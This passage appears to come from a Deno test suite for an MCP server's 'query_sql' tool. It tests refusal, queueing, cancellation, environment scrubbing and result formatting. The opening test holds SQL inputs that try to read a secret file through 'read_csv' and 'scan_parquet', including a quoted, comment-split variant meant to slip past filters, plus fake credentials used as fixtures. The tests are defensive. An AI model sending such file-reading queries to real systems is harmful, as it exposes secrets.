        `SELECT * FROM scan_parquet('${path}')`,
        `SELECT * FROM 'read_csv'('${secret}')`,
        `SELECT * FROM 'READ_CSV' /* x */ ('${secret}')`,
      ]
    ) {
      const answer = await ask(sql);
      assertEquals(answer.ok, false, sql);
      assertEquals(answer.refused, true, sql);
      ok(!JSON.stringify(answer).includes("sk-not-for-models"), JSON.stringify(answer));
    }
    assertEquals((await ask("SELECT count(*) AS n FROM pricing_data")).rows, [{ n: 400 }]);
    await stdin.close();
    assertEquals((await child.status).code, 0);
    await child.stderr.cancel();
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("query_sql's process gets the server's environment without its secrets", async () => {
  const secrets = {
    PRICING_PG_URL: "postgres://reader:pg-secret-1@db.example.com/postgres",
    PRICING_CH_PASSWORD: "ch-secret-2",
    STRIPE_SECRET_KEY: "sk_live_stripe-secret-3",
    PRICING_SMTP_PASSWORD: "smtp-secret-4",
    PGPASSWORD: "pg-secret-5",
    AWS_SECRET_ACCESS_KEY: "aws-secret-6",
    ANTHROPIC_API_KEY: "api-secret-7",
    OPENAI_APIKEY: "api-secret-8",
  };
  const kept = { POLARS_MAX_THREADS: "2", LANG: "C.UTF-8" };
  const before = Object.fromEntries(
    [...Object.keys(secrets), ...Object.keys(kept)].map((name) => [name, Deno.env.get(name)]),
  );
  for (const [name, value] of Object.entries({ ...secrets, ...kept })) Deno.env.set(name, value);
  const child = sqlProcessCommand().spawn();
  const stdout = child.stdout.getReader();
  try {
    // its ready line first: read as spawn() returns, /proc showed an empty environment (and
    // command line) at times, the exec not yet done (a third of 300 spawns here, failing the
    // full suite once under load)
    const first = new TextDecoder().decode((await stdout.read()).value);
    ok(first.startsWith(READY_LINE), first);
    // what the running process holds, as the kernel shows it
    const environ = await Deno.readTextFile(`/proc/${child.pid}/environ`);
    const names = environ.split("\0").map((entry) => entry.split("=")[0]);
    for (const [name, value] of Object.entries(secrets)) {
      ok(!names.includes(name), name);
      ok(!environ.includes(value), name);
    }
    ok(environ.includes("POLARS_MAX_THREADS=2") && environ.includes("LANG=C.UTF-8"), environ);
  } finally {
    await child.stdin.close();
    await Promise.all([child.status, stdout.cancel(), child.stderr.cancel()]);
    for (const [name, value] of Object.entries(before)) {
      if (value === undefined) Deno.env.delete(name);
      else Deno.env.set(name, value);
    }
  }
});

Deno.test("the frames' folders of killed servers are removed; a live server's, untagged and other machines' stay", () => {
  const tmp = Deno.makeTempDirSync();
  try {
    const live = ownerTag(); // this process
    const dead = live.replace(/s\d*h/, "s1h"); // this pid with another start time: a dead server
    const otherHost = live.replace(/h[0-9a-f]{8}$/, "h00000000");
    const names = [
      `pricing-kit-sql-${dead}-a1`,
      `pricing-kit-sql-${live}-b2`,
      `pricing-kit-sql-${otherHost}-c3`,
      "pricing-kit-sql-d4", // an older kit's, owner unknown
      `unrelated-${dead}`,
    ];
    for (const name of names) Deno.mkdirSync(join(tmp, name, "inside"), { recursive: true });
    assertEquals(removeDeadSqlFolders(tmp), [join(tmp, names[0])]);
    assertEquals([...Deno.readDirSync(tmp)].map((e) => e.name).sort(), names.slice(1).sort());
  } finally {
    Deno.removeSync(tmp, { recursive: true });
  }
});

Deno.test("query_sql: statements are admitted first come, first served, whatever each loads first", async () => {
  const dir = await Deno.makeTempDir({ prefix: "mcp_sql_test_" });
  // a deadline no statement here reaches: only the cancel stops the slow one
  const settings = { ...mcpSettings({ PRICING_MCP_EXPORTS_DIR: dir }), sqlTimeoutMs: 600_000 };
  // the demo dataset in memory as of 2026-11-01: 400 organizations (the golden demo's)
  const { client, close } = await connectInMemory(
    new DatasetStore(settings, { now: () => new Date("2026-11-01T00:00:00Z") }),
  );
  const first = new AbortController();
  try {
    // the process started and the table written, so the slow statement runs at once
    await call(client, "query_sql", { sql: "SELECT 1 AS one FROM pricing_data LIMIT 1" });
    const slow = client.callTool({ name: "query_sql", arguments: { sql: SLOW } }, undefined, {
      signal: first.signal,
    });
    slow.catch(() => {});
    await until(async () => await residentMb(frameSqlPid()!) > 300, "the slow statement to run");
    // sent at once behind it: the first reads the history table first (more to load than the
    // others), yet keeps its place: it and the next fifteen wait (MAX_WAITING, 16), the last two
    // are refused
    const sqls = [
      "SELECT count(*) AS n FROM history",
      ...Array.from({ length: 17 }, (_, k) => `SELECT count(*) + ${k + 2} AS n FROM pricing_data`),
    ];
    const answers = sqls.map((sql) => call(client, "query_sql", { sql }));
    await until(() => Promise.resolve(frameQueriesWaiting() === MAX_WAITING), "sixteen to wait");
    first.abort();
    const results = await Promise.all(answers);
    // no history snapshot in the empty folder: 0; the demo's 400 organizations plus 2 … 16
    assertEquals(
      results.slice(0, MAX_WAITING).map((r) => r.structuredContent?.rows ?? text(r)),
      [[{ n: 0 }], ...Array.from({ length: 15 }, (_, k) => [{ n: 400 + k + 2 }])],
    );
    assertEquals(
      results.slice(MAX_WAITING).map((r) => [r.isError, text(r)]),
      [[true, `error: ${BUSY}`], [true, `error: ${BUSY}`]],
    );
  } finally {
    first.abort();
    await close();
    await closeFrameSql();
    await Deno.remove(dir, { recursive: true });
  }
});

/** Three copies of the demo's seats crossed and counted: 64 million rows, ~2 s and ~0.8 GB here. */
const SLOW = "SELECT count(*) AS n FROM (SELECT seats AS x FROM pricing_data) a " +
  "CROSS JOIN (SELECT seats AS y FROM pricing_data) b CROSS JOIN (SELECT seats AS z FROM pricing_data) c";

/** Resident memory of a process in MB, 0 once it is gone. */
async function residentMb(pid: number): Promise<number> {
  try {
    const status = await Deno.readTextFile(`/proc/${pid}/status`);
    return Number(status.match(/VmRSS:\s+(\d+)/)?.[1] ?? 0) / 1024;
  } catch {
    return 0;
  }
}

Deno.test("query_sql: a cancelled statement leaves the queue at once, a running one has its process killed", async () => {
  const dir = await Deno.makeTempDir({ prefix: "mcp_sql_test_" });
  // a deadline no statement here reaches: only the cancel can stop them
  const settings = { ...mcpSettings({ PRICING_MCP_EXPORTS_DIR: dir }), sqlTimeoutMs: 600_000 };
  const { client, close } = await connectInMemory(new DatasetStore(settings));
  const slow = (signal: AbortSignal) =>
    client.callTool({ name: "query_sql", arguments: { sql: SLOW } }, undefined, { signal });
  try {
    // the process started and the table written, so the first slow statement runs at once
    await call(client, "query_sql", { sql: "SELECT 1 AS one FROM pricing_data LIMIT 1" });
    const pid = frameSqlPid()!;
    const first = new AbortController();
    let firstSettled = false;
    const running = slow(first.signal).finally(() => firstSettled = true);
    running.catch(() => {});
    const queued = [0, 1, 2].map(() => new AbortController());
    const waiting = queued.map((abort) => slow(abort.signal));
    await until(() => Promise.resolve(frameQueriesWaiting() === 3), "three statements to wait");
    // the client's AbortController: the SDK sends notifications/cancelled for each
    for (const abort of queued) abort.abort();
    for (const answer of waiting) await rejects(answer);
    await until(
      () => Promise.resolve(frameQueriesWaiting() === 0),
      "the cancelled statements to leave",
    );
    ok(!firstSettled, "the queue emptied while the first statement still ran");
    await until(async () => await residentMb(pid) > 300, "the first statement to run");
    first.abort();
    await rejects(running);
    await until(() => processEnded(pid), "the cancelled statement's process to end");
    // the next statement starts a new process and answers (nothing cancelled runs before it)
    const one = await call(client, "query_sql", { sql: "SELECT 1 AS one" });
    assertEquals(one.structuredContent?.rows ?? text(one), [{ one: 1 }]);
    ok(frameSqlPid() !== pid);
  } finally {
    await close();
    await closeFrameSql();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("query_sql over the SDK: 1 + MAX_WAITING calls sent at once all answer; one more while they wait is refused in one line", async () => {
  const dir = await Deno.makeTempDir({ prefix: "mcp_sql_test_" });
  // a deadline no statement here reaches: only the cancel stops the slow one
  const settings = { ...mcpSettings({ PRICING_MCP_EXPORTS_DIR: dir }), sqlTimeoutMs: 600_000 };
  // the demo dataset in memory as of 2026-11-01: 400 organizations (the golden demo's)
  const { client, close } = await connectInMemory(
    new DatasetStore(settings, { now: () => new Date("2026-11-01T00:00:00Z") }),
  );
  const count = (i: number) =>
    call(client, "query_sql", { sql: `SELECT count(*) + ${i} AS n FROM pricing_data` });
  const answered = (results: Awaited<ReturnType<typeof count>>[]) =>
    results.map((r) => r.structuredContent?.rows ?? text(r));
  const expected = (n: number) => Array.from({ length: n }, (_, i) => [{ n: 400 + i }]);
  const first = new AbortController();
  try {
    // a burst as Claude sends one (17 at once, before any answers): none is refused; the
    // queue held four, and refused the sixth
    assertEquals(
      answered(await Promise.all(expected(MAX_WAITING + 1).map((_, i) => count(i)))),
      expected(MAX_WAITING + 1),
    );
    // one slow statement runs, sixteen wait: the next is refused with the numbers
    const slow = client.callTool({ name: "query_sql", arguments: { sql: SLOW } }, undefined, {
      signal: first.signal,
    });
    slow.catch(() => {});
    await until(async () => await residentMb(frameSqlPid()!) > 300, "the slow statement to run");
    const waiting = expected(MAX_WAITING).map((_, i) => count(i));
    await until(() => Promise.resolve(frameQueriesWaiting() === MAX_WAITING), "sixteen to wait");
    const busy = await count(99);
    assertEquals([busy.isError, text(busy)], [true, `error: ${BUSY}`]);
    first.abort();
    assertEquals(answered(await Promise.all(waiting)), expected(MAX_WAITING));
  } finally {
    first.abort();
    await close();
    await closeFrameSql();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("query_sql over HTTP: a cancelled statement has its process killed (the cancel comes in a POST of its own)", async () => {
  const dir = await Deno.makeTempDir({ prefix: "mcp_sql_test_" });
  const store = new DatasetStore({
    ...mcpSettings({ PRICING_MCP_EXPORTS_DIR: dir }),
    sqlTimeoutMs: 600_000,
  });
  const handler = createMcpHttpHandler(store.settings, { check: () => ({ ok: true }) }, store);
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, handler);
  const client = new Client({ name: "pricing-kit-test", version: "1.0.0" });
  try {
    await client.connect(
      new StreamableHTTPClientTransport(new URL(`http://127.0.0.1:${server.addr.port}/mcp`)),
    );
    await call(client, "query_sql", { sql: "SELECT 1 AS one FROM pricing_data LIMIT 1" });
    const pid = frameSqlPid()!;
    const abort = new AbortController();
    const answer = client.callTool({ name: "query_sql", arguments: { sql: SLOW } }, undefined, {
      signal: abort.signal,
    });
    answer.catch(() => {});
    await until(async () => await residentMb(pid) > 300, "the statement to run");
    abort.abort();
    await rejects(answer);
    await until(() => processEnded(pid), "the cancelled statement's process to end");
    const one = await call(client, "query_sql", { sql: "SELECT 1 AS one" });
    assertEquals(one.structuredContent?.rows ?? text(one), [{ one: 1 }]);
  } finally {
    await client.close();
    await server.shutdown();
    await closeFrameSql();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("query_sql: structuredContent says the rows shown and the rows returned in all", async () => {
  const dir = await Deno.makeTempDir({ prefix: "mcp_sql_test_" });
  const settings = { ...mcpSettings({ PRICING_MCP_EXPORTS_DIR: dir }), maxRows: 42 };
  const { client, close } = await connectInMemory(new DatasetStore(settings));
  try {
    // the demo's 400 organizations, 42 shown
    const all = await call(client, "query_sql", { sql: "SELECT org_id FROM pricing_data" });
    const s = all.structuredContent!;
    assertEquals([s.row_count, s.total_rows, s.truncated], [42, 400, true]);
    ok(text(all).includes("42 of 400 rows"), text(all));
    const one = await call(client, "query_sql", { sql: "SELECT count(*) AS n FROM pricing_data" });
    const t = one.structuredContent!;
    assertEquals([t.row_count, t.total_rows, t.truncated], [1, 1, false]);
  } finally {
    await close();
    await closeFrameSql();
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("query_sql: 64-bit integers a number does not hold exactly come back as text, as database_sql's", async () => {
  const frame = await demoFrame();
  // 2^53 − 1 is the last integer a double holds exactly; Polars' toArray rounded past it
  // (123456789012345678 came back as 123456789012345680)
  const answer = await queryFrame(
    frame,
    "SELECT CAST(9007199254740991 AS BIGINT) AS safe, CAST(9007199254740992 AS BIGINT) AS past, " +
      "CAST(-123456789012345678 AS BIGINT) AS negative, CAST(9223372036854775807 AS UBIGINT) AS u, " +
      "CAST(NULL AS BIGINT) AS nothing, count(*) AS n FROM pricing_data",
    LIMITS,
  );
  assertEquals(answer.rows, [{
    safe: 9007199254740991,
    past: "9007199254740992",
    negative: "-123456789012345678",
    u: "9223372036854775807",
    nothing: null,
    n: 400,
  }]);
  await closeFrameSql();
});
